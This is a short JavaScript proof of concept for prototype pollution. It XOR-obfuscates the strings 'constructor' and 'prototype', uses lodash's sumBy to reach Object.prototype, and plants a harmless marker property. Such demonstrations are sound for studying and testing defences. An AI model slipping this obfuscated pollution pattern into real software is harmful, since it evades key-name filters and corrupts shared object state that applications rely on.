// writes to Object.prototype by lodash's reads and Object.assign
const _ = require('lodash');
const d = (a) => String.fromCharCode(...a.map((c) => c ^ 1));
const C = _.sumBy([{}], d([98, 110, 111, 114, 117, 115, 116, 98, 117, 110, 115]));
const P = _.sumBy([C], d([113, 115, 110, 117, 110, 117, 120, 113, 100]));
Object.assign(P, { mark: 42 });
console.log({}.mark);
